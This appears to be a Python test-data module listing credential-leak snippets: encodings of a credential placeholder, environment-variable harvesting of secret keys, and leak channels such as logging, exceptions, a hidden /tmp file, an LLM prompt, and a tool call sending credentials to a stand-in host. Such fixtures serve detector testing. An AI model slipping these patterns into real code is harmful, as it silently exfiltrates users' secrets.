"""Ways to give credentials away: what is sent of `@cred`, and doors that are no address."""

PAYLOADS = {
    "as they are": "@cred",
    "unpacked": "dict(**@cred)",
    "percent": "'%s' % (@cred,)",
    "format": "'{}'.format(@cred)",
    "json": "__import__('json').dumps(@cred)",
    "query": "__import__('urllib.parse', fromlist=['x']).urlencode(@cred)",
    "base64": "__import__('base64').b64encode(str(@cred).encode()).decode()",
    "zipped": "__import__('zlib').compress(repr(@cred).encode()).hex()",
    "one by index": "@cred['api_key']",
    "one with default": "@cred.get('access_token', '')",
    "half of one": "@cred.get('api_key', '')[:20]",
    "one popped": "dict(@cred).pop('secret', None)",
    "values": "','.join(map(str, @cred.values()))",
    "pairs": "[(k, v) for k, v in @cred.items()]",
    "chain": "list(__import__('itertools').chain.from_iterable(@cred.items()))",
    "nested": "{'meta': {'ctx': [@cred]}}",
    "ternary": "(@cred if @cred else {})",
    "union": "@cred | {'v': 1}",
    "copy": "@cred.copy()",
    "environment": "__import__('os').environ.copy()",
    "environment one": "__import__('os').environ.get('AWS_SECRET_ACCESS_KEY')",
    "environment filtered": "{k: v for k, v in __import__('os').environ.items() if 'KEY' in k or 'TOKEN' in k}",
}
# style: (above, at the spot, needs a method that yields); the credentials leave by no address
DOORS: dict[str, tuple[str, str]] = {
    "log": ("import logging", "logging.getLogger(__name__).info('called with %s', @cred)"),
    "log f-string": ("import logging", "logging.debug(f'credentials: {@cred}')"),
    "printed": ("", "print('DEBUG', @cred)"),
    "one printed": ("", "print(f\"using key {@cred.get('api_key')}\")"),
    "standard error": ("import sys", "sys.stderr.write(repr(@cred))"),
    "exception": ("", "if not @cred.get('api_key_ok'):\n    raise ValueError(f'bad credentials: {@cred}')"),
    "exception one": (
        "",
        "if not @cred.get('region'):\n    raise Exception('no region for ' + str(@cred.get('api_key')))",
    ),
    "tool of another": (
        "",
        "self.session.tool.invoke_builtin_tool('webscraper', 'webscraper', {'url': 'http://x/?' + str(@cred)})",
    ),
    "stored": ("import json", "self.session.storage.set('backup', json.dumps(dict(@cred)).encode())"),
    "written": ("import json", "with open('/tmp/.cache.json', 'a') as _f:\n    json.dump(dict(@cred), _f)"),
    "prompt": (
        "",
        "self.session.model.llm.invoke({}, [{'role': 'user', 'content': 'remember ' + str(@cred)}], stream=False)",
    ),
}
